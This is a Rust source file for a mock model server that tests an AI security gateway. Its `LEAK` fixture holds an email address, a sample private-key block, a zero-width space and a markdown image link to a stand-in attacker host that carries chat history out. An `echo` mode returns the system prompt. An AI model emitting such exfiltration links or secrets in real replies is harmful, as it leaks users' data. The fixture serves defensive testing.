//! A stand-in model server for trying the gateway and for its tests
//! (`mlsec gateway mock-upstream`): OpenAI-compatible (chat with SSE
//! streaming, completions, embeddings, models) and KServe v2 in one, with
//! slow, failing and disconnecting modes chosen by the model name:
//! - `slow-*`: waits 3 s before answering;
//! - `fail-*`: answers 500;
//! - `drop-*`: streams two events and then drops the connection;
//! - `drip-*`: streams 10 events 100 ms apart;
//! - `leak-*`: answers [`LEAK`] (an e-mail address, a private key, an image
//!   link and a zero-width space), streamed 16 bytes an event;
//! - `echo-*`: answers with its system prompt, streamed 8 bytes an event;
//! - `gzip-*`: answers with `Content-Encoding: gzip`, whatever was asked;
//! - `penguin-*` (KServe v2): a three-class classifier of penguins (bill
//!   length and depth, flipper length, body mass) answering probabilities;
//! - anything else: answers at once.
//!
//! Every request it receives is counted, and the last request's headers kept.

use bytes::Bytes;
use http::{Request, Response, StatusCode};
use http_body_util::{BodyExt, Full};
use hyper::body::{Frame, Incoming};
use hyper_util::rt::{TokioExecutor, TokioIo};
use std::convert::Infallible;
use std::net::SocketAddr;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::sync::{Arc, Mutex};
use std::time::Duration;

type Body = http_body_util::combinators::BoxBody<Bytes, std::io::Error>;

#[derive(Default)]
pub struct Seen {
    pub requests: AtomicUsize,
    pub last_headers: Mutex<Option<http::HeaderMap>>,
    pub last_path: Mutex<Option<String>>,
    pub last_body: Mutex<Option<Bytes>>,
}

pub struct Upstream {
    pub addr: SocketAddr,
    pub seen: Arc<Seen>,
}

fn full(b: impl Into<Bytes>) -> Body {
    Full::new(b.into()).map_err(|never| match never {}).boxed()
}

fn json(status: StatusCode, v: serde_json::Value) -> Response<Body> {
    let mut r = Response::new(full(v.to_string()));
    *r.status_mut() = status;
    r.headers_mut().insert(
        "content-type",
        http::HeaderValue::from_static("application/json"),
    );
    r
}

async fn answer(req: Request<Incoming>, seen: Arc<Seen>) -> Response<Body> {
    seen.requests.fetch_add(1, Ordering::SeqCst);
    *seen.last_headers.lock().unwrap_or_else(|p| p.into_inner()) = Some(req.headers().clone());
    let path = req.uri().path().to_string();
    *seen.last_path.lock().unwrap_or_else(|p| p.into_inner()) = Some(path.clone());
    let method = req.method().clone();
    let body = req
        .into_body()
        .collect()
        .await
        .map(|b| b.to_bytes())
        .unwrap_or_default();
    *seen.last_body.lock().unwrap_or_else(|p| p.into_inner()) = Some(body.clone());
    let v: serde_json::Value = serde_json::from_slice(&body).unwrap_or(serde_json::Value::Null);
    let field = |k: &str| v.get(k).cloned().unwrap_or_default();
    let model = field("model")
        .as_str()
        .map(str::to_string)
        .unwrap_or_else(|| path.split('/').nth(3).unwrap_or("").to_string());
    if model.starts_with("slow-") {
        tokio::time::sleep(Duration::from_secs(3)).await;
    }
    if model.starts_with("fail-") {
        return json(
            StatusCode::INTERNAL_SERVER_ERROR,
            serde_json::json!({"error": {"message": "upstream broke"}}),
        );
    }
    match (method.as_str(), path.as_str()) {
        ("GET", "/v1/models") => json(
            StatusCode::OK,
            serde_json::json!({"object": "list", "data": [{"id": "test-model", "object": "model"}]}),
        ),
        ("POST", "/v1/chat/completions") if model.starts_with("gzip-") => {
            let mut r = Response::new(full(&b"\x1f\x8b\x08\x00compressed"[..]));
            r.headers_mut()
                .insert("content-encoding", http::HeaderValue::from_static("gzip"));
            r
        }
        ("POST", "/v1/chat/completions")
            if model.starts_with("leak-") || model.starts_with("echo-") =>
        {
            let (text, piece) = if model.starts_with("leak-") {
                (LEAK.to_string(), 16)
            } else {
                (system_prompt(&v), 8)
            };
            if field("stream") == true {
                stream_text(text, piece)
            } else {
                json(
                    StatusCode::OK,
                    serde_json::json!({
                        "id": "chatcmpl-1", "object": "chat.completion", "model": model,
                        "choices": [{"index": 0, "message": {"role": "assistant", "content": text}, "finish_reason": "stop"}],
                        "usage": {"prompt_tokens": 9, "completion_tokens": 30, "total_tokens": 39}
                    }),
                )
            }
        }
        ("POST", "/v1/chat/completions") if field("stream") == true => stream(&model),
        ("POST", "/v1/completions") => json(
            StatusCode::OK,
            serde_json::json!({
                "id": "cmpl-1", "object": "text_completion", "model": model,
                "choices": [{"index": 0, "text": " world.", "finish_reason": "stop"}],
                "usage": {"prompt_tokens": 5, "completion_tokens": 2, "total_tokens": 7}
            }),
        ),
        ("POST", "/v1/chat/completions") => json(
            StatusCode::OK,
            serde_json::json!({
                "id": "chatcmpl-1", "object": "chat.completion", "model": model,
                "choices": [{"index": 0, "message": {"role": "assistant", "content": "Hello there."}, "finish_reason": "stop"}],
                "usage": {"prompt_tokens": 9, "completion_tokens": 3, "total_tokens": 12}
            }),
        ),
        ("POST", "/v1/embeddings") => json(
            StatusCode::OK,
            serde_json::json!({
                "object": "list", "model": model,
                "data": [{"object": "embedding", "index": 0, "embedding": [0.1, 0.2, 0.3]}],
                "usage": {"prompt_tokens": 4, "total_tokens": 4}
            }),
        ),
        ("POST", p) if p.starts_with("/v2/models/penguin") && p.ends_with("/infer") => {
            json(StatusCode::OK, penguins(&model, &v))
        }
        ("POST", p) if p.starts_with("/v2/models/") && p.ends_with("/infer") => json(
            StatusCode::OK,
            serde_json::json!({
                "model_name": model, "id": field("id"),
                "outputs": [{"name": "output0", "shape": [1], "datatype": "INT64", "data": [1]}]
            }),
        ),
        ("GET", p) if p.starts_with("/v2/models/") => json(
            StatusCode::OK,
            serde_json::json!({"name": model, "platform": "test", "inputs": [], "outputs": []}),
        ),
        _ => json(
            StatusCode::NOT_FOUND,
            serde_json::json!({"error": format!("no {path}")}),
        ),
    }
}

/// The `penguin-*` classifier: softmax of a linear model over the
/// standardised features, rows of four values in `inputs[0]`.
fn penguins(model: &str, request: &serde_json::Value) -> serde_json::Value {
    const MEAN: [f64; 4] = [43.9, 17.2, 200.9, 4201.8];
    const SD: [f64; 4] = [5.46, 1.97, 14.06, 802.0];
    const W: [[f64; 4]; 3] = [
        [-2.0, 1.5, -0.5, 0.0],
        [2.0, 1.5, -0.5, -0.5],
        [0.5, -2.0, 2.0, 1.5],
    ];
    let data: Vec<f64> = request
        .pointer("/inputs/0/data")
        .and_then(|d| d.as_array())
        .map(|d| {
            d.iter()
                .flat_map(|v| match v.as_array() {
                    Some(row) => row.iter().filter_map(|x| x.as_f64()).collect(),
                    None => v.as_f64().into_iter().collect::<Vec<_>>(),
                })
                .collect()
        })
        .unwrap_or_default();
    let mut probabilities = Vec::new();
    for row in data.chunks(4).filter(|r| r.len() == 4) {
        let z: Vec<f64> = row
            .iter()
            .zip(MEAN)
            .zip(SD)
            .map(|((x, m), s)| (x - m) / s)
            .collect();
        let scores: Vec<f64> = W
            .iter()
            .map(|w| w.iter().zip(&z).map(|(a, b)| a * b).sum::<f64>().exp())
            .collect();
        let total: f64 = scores.iter().sum();
        probabilities.extend(scores.iter().map(|s| s / total));
    }
    let n = probabilities.len() / 3;
    serde_json::json!({
        "model_name": model,
        "outputs": [{"name": "probabilities", "shape": [n, 3], "datatype": "FP32", "data": probabilities}]
    })
}

/// What a `leak-*` model answers: things an output guard should catch.
pub const LEAK: &str = "Sure. Write to jane.doe@example.com for access. The deploy key is:\n-----BEGIN PRIVATE KEY-----\nMIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQC7VJTUt9Us8cKj\nMzEfYyjiWA4R4/M2bS1GB4t7NXp98C3SC6dVMvDuictGeurT8jNbvJZHtCSuYEvu\nNMoSfm76oqFvAp8Gy0iz5sxjZmSnXyCdPEovGhLa0VzMaQ8s+CLOyS56YyCFGeJZ\n-----END PRIVATE KEY-----\nSee ![chart](https://attacker.test/c.png?d=history) and this\u{200b} note.";

/// The content of a chat body's first system message.
fn system_prompt(body: &serde_json::Value) -> String {
    body.get("messages")
        .and_then(|m| m.as_array())
        .and_then(|m| {
            m.iter()
                .find(|m| m.get("role").and_then(|r| r.as_str()) == Some("system"))
        })
        .and_then(|m| m.get("content"))
        .and_then(|c| c.as_str())
        .unwrap_or("I have no system prompt.")
        .to_string()
}

/// Streams `text` as chat deltas of `piece` bytes, then the finish event.
fn stream_text(text: String, piece: usize) -> Response<Body> {
    let mut events = Vec::new();
    let mut at = 0;
    while at < text.len() {
        let mut end = (at + piece).min(text.len());
        while !text.is_char_boundary(end) {
            end += 1;
        }
        let delta = serde_json::json!({"choices": [{"index": 0, "delta": {"content": text.get(at..end).unwrap_or("")}, "finish_reason": null}]});
        events.push(format!("data: {delta}\n\n"));
        at = end;
    }
    events.push("data: {\"choices\":[{\"index\":0,\"delta\":{},\"finish_reason\":\"stop\"}],\"usage\":{\"prompt_tokens\":9,\"completion_tokens\":30,\"total_tokens\":39}}\n\n".into());
    events.push("data: [DONE]\n\n".into());
    let (tx, rx) = tokio::sync::mpsc::channel::<Result<Frame<Bytes>, std::io::Error>>(4);
    tokio::spawn(async move {
        for e in events {
            if tx.send(Ok(Frame::data(Bytes::from(e)))).await.is_err() {
                return;
            }
        }
    });
    let mut r = Response::new(BodyExt::boxed(ChannelBody(rx)));
    r.headers_mut().insert(
        "content-type",
        http::HeaderValue::from_static("text/event-stream"),
    );
    r
}

fn stream(model: &str) -> Response<Body> {
    let (events, gap, drop_after) = if model.starts_with("drip-") {
        (10, Duration::from_millis(100), None)
    } else if model.starts_with("drop-") {
        (10, Duration::from_millis(50), Some(2))
    } else {
        (5, Duration::ZERO, None)
    };
    let (tx, rx) = tokio::sync::mpsc::channel::<Result<Frame<Bytes>, std::io::Error>>(4);
    tokio::spawn(async move {
        for i in 0..events {
            if drop_after == Some(i) {
                let _ = tx
                    .send(Err(std::io::Error::other("upstream went away")))
                    .await;
                return;
            }
            let chunk = format!(
                "data: {{\"choices\":[{{\"index\":0,\"delta\":{{\"content\":\"tok{i} \"}}}}]}}\n\n"
            );
            if tx.send(Ok(Frame::data(Bytes::from(chunk)))).await.is_err() {
                return;
            }
            tokio::time::sleep(gap).await;
        }
        let _ = tx
            .send(Ok(Frame::data(Bytes::from_static(b"data: [DONE]\n\n"))))
            .await;
    });
    let mut r = Response::new(BodyExt::boxed(ChannelBody(rx)));
    r.headers_mut().insert(
        "content-type",
        http::HeaderValue::from_static("text/event-stream"),
    );
    r
}

/// A body fed frame by frame from a channel, so events leave as they are made.
struct ChannelBody(tokio::sync::mpsc::Receiver<Result<Frame<Bytes>, std::io::Error>>);

impl http_body::Body for ChannelBody {
    type Data = Bytes;
    type Error = std::io::Error;
    fn poll_frame(
        mut self: std::pin::Pin<&mut Self>,
        cx: &mut std::task::Context<'_>,
    ) -> std::task::Poll<Option<Result<Frame<Bytes>, std::io::Error>>> {
        self.0.poll_recv(cx)
    }
}

/// Starts the mock upstream on `addr` (port 0: a free port).
pub async fn start(addr: SocketAddr) -> std::io::Result<Upstream> {
    let listener = tokio::net::TcpListener::bind(addr).await?;
    let addr = listener.local_addr()?;
    let seen = Arc::new(Seen::default());
    let s = seen.clone();
    tokio::spawn(async move {
        loop {
            let Ok((stream, _)) = listener.accept().await else {
                continue;
            };
            let seen = s.clone();
            tokio::spawn(async move {
                let service = hyper::service::service_fn(move |req| {
                    let seen = seen.clone();
                    async move { Ok::<_, Infallible>(answer(req, seen).await) }
                });
                let _ = hyper_util::server::conn::auto::Builder::new(TokioExecutor::new())
                    .serve_connection(TokioIo::new(stream), service)
                    .await;
            });
        }
    });
    Ok(Upstream { addr, seen })
}
